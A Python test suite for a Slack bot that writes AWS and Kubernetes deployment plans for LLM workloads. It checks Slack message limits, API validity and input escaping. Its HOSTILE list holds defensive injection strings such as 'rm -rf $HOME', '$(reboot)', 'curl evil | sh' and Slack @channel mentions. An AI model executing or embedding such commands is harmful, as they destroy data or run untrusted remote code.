"""Plans on every surface: within Slack's limits, hostile names literal, calls that are real."""

import json
import re
import shlex

import pytest
import yaml
from botocore import xform_name
from botocore.session import get_session
from botocore.validate import ParamValidator

from bot.answers.world import load_world
from bot.cards.blocks import message
from bot.cards.notices import PlanTextError, plan_view
from bot.cards.slack_limits import MESSAGE_TEXT_BYTES, check_blocks
from bot.cards.terminal import render_terminal
from bot.cli.ask import reply_json
from bot.conversation.conversation import answer
from bot.manifests.eksctl.eksctl import eksctl_manifest
from tests.plans.plan_text import commands_of
from tests.plans.test_plan_requests import REQUESTS

PLAIN = [row[1] for row in REQUESTS]


@pytest.mark.parametrize("text", PLAIN, ids=[row[0] for row in REQUESTS])
def test_a_plan_fits_slack_uncut(text):
    reply = answer(text, load_world())
    sent = message(reply.view)
    assert check_blocks(sent["blocks"]) == []
    assert len(sent["text"].encode()) <= MESSAGE_TEXT_BYTES
    assert "…" not in json.dumps(sent["blocks"], ensure_ascii=False)
    fences = json.dumps(sent["blocks"]).count("```")
    assert fences % 2 == 0
    for command in commands_of(reply):
        assert (
            command.splitlines()[0] in render_terminal(reply.view, width=400) or len(command) > 90
        )


@pytest.mark.parametrize("text", PLAIN, ids=[row[0] for row in REQUESTS])
def test_a_plan_is_plain_json(text):
    found = json.loads(json.dumps(reply_json(answer(text, load_world()))))
    assert found["plan"]["sections"]
    assert all(section["lines"] for section in found["plan"]["sections"])


HOSTILE = [
    "migrate llama-3.1-8b from g5.xlarge to inf2.xlarge name=`*<!channel>*`",
    "scaling llama-3.1-8b rps=20 called <!here>; rm -rf $HOME",
    "handoff llama-3.1-8b instance=g6e.xlarge called $(reboot)",
    "monitoring llama-3.1-8b '; curl evil | sh #",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_stay_literal(text):
    reply = answer(text, load_world())
    blocks = json.dumps(message(reply.view)["blocks"])
    assert "<!channel>" not in blocks
    assert "<!here>" not in blocks
    if reply.plan is None:
        assert reply.error is not None
        return
    for command in commands_of(reply):
        words = command.replace("\\\n", " ")
        assert "rm -rf" not in words
        if command.startswith("ec2-pick"):
            assert shlex.split(words, comments=True)[1] == " ".join(text.split())
        assert "$(reboot)" not in words


def test_a_value_cannot_forge_a_heading_or_a_command(monkeypatch):
    """The template format is line by line; a value is one line and starts none."""
    from jinja2 import DictLoader

    from bot.core.render import plan_environment

    template = "# T {{ x }}\nLead {{ x }}\n## H\n- item {{ x }}\n$ run {{ x | shell }}\n"
    monkeypatch.setattr(plan_environment(), "loader", DictLoader({"plans/t.j2": template}))
    view = plan_view("t", x="a\n## Evil\n$ rm\u2028- b")
    assert [section.heading for section in view.sections] == ["H"]
    assert [line.kind for line in view.sections[0].lines] == ["item", "command"]
    assert view.sections[0].lines[1].text == "run 'a ## Evil $ rm - b'"


def test_a_template_without_a_title_is_a_defect(monkeypatch):
    from jinja2 import DictLoader

    from bot.core.render import plan_environment

    monkeypatch.setattr(plan_environment(), "loader", DictLoader({"plans/u.j2": "words\n"}))
    with pytest.raises(PlanTextError):
        plan_view("u")


def option(command: str, name: str) -> str:
    words = shlex.split(command.replace("\\\n", " "))
    return words[words.index(name) + 1]


def test_the_sagemaker_call_is_valid_for_the_api():
    text = (
        "sagemaker inference recommender for llama-3.1-8b on g6e.xlarge concurrency=16 e2e_p99<6s"
    )
    command = commands_of(answer(text, load_world()))[0].split("\naws ")[0]
    operation = (
        get_session()
        .get_service_model("sagemaker")
        .operation_model("CreateInferenceRecommendationsJob")
    )
    assert command.startswith(f"aws sagemaker {xform_name(operation.name, '-')} ")
    call = {
        "JobName": option(command, "--job-name"),
        "JobType": option(command, "--job-type"),
        "RoleArn": option(command, "--role-arn"),
        "InputConfig": json.loads(option(command, "--input-config")),
        "StoppingConditions": json.loads(option(command, "--stopping-conditions")),
    }
    report = ParamValidator().validate(call, operation.input_shape)
    assert not report.has_errors(), report.generate_report()
    assert call["JobType"] == "Advanced"
    limit = call["StoppingConditions"]["ModelLatencyThresholds"][0]
    assert limit == {"Percentile": "P99", "ValueInMilliseconds": 6000}
    users = [p["InitialNumberOfUsers"] for p in call["InputConfig"]["TrafficPattern"]["Phases"]]
    assert max(users) == 16


def test_the_compute_optimizer_calls_exist():
    reply = answer("compute optimizer for llama-3.1-8b on g6e.xlarge", load_world())
    model = get_session().get_service_model("compute-optimizer")
    names = {xform_name(name, "-"): name for name in model.operation_names}
    found = re.findall(r"aws compute-optimizer (\S+)([^\n]*(?:\\\n[^\n]*)*)", reply.text)
    assert len(found) == 3
    for command, options in found:
        shape = model.operation_model(names[command]).input_shape
        members = {xform_name(member, "-") for member in shape.members}
        used = set(re.findall(r"--([a-z0-9-]+)", options)) - {"region"}
        assert used <= members


def test_endpoint_families_are_those_of_the_api():
    shape = get_session().get_service_model("sagemaker").shape_for("ProductionVariantInstanceType")
    served = {name.removeprefix("ml.").partition(".")[0] for name in shape.enum}
    families = load_world().catalog.families.values()
    hosted = {family.family for family in families if family.sagemaker_endpoints}
    assert served >= hosted > {"g6e", "c7i"}


def test_the_keda_object_parses():
    text = "scaling llama-3.1-8b instance=g6e.xlarge rps=60"
    reply = answer(text, load_world())
    document = yaml.safe_load(commands_of(reply)[0])
    assert document["kind"] == "ScaledObject"
    assert reply.plan is not None
    assert document["spec"]["maxReplicaCount"] == reply.plan["max_replicas"]
    assert (
        int(document["spec"]["triggers"][0]["metadata"]["threshold"])
        == (reply.plan["target_in_flight"])
    )


def test_the_traffic_patch_is_json_with_the_first_weights():
    reply = answer("migrate llama-3.1-8b from g5.xlarge to inf2.xlarge", load_world())
    assert reply.plan is not None
    patch = next(c for c in commands_of(reply) if c.startswith("kubectl patch"))
    weights = [row["value"] for row in json.loads(patch.split("-p=")[1].strip("'"))]
    first = reply.plan["stages"][0]
    assert weights == [first["source_weight"], first["target_weight"]]


def test_the_cluster_file_of_a_migration_is_the_new_side():
    """`ec2-pick REQUEST --manifest eksctl` is a step of the plan: it prints the Neuron group."""
    reply = answer("migrate llama-3.1-8b from g5.xlarge to inf2.xlarge", load_world())
    result = reply.recommendation
    assert result is not None
    pick = result.asked or result.picks[0]
    manifest = eksctl_manifest(pick, result.workload, load_world().catalog)
    assert "inf2.xlarge" in manifest.yaml_text
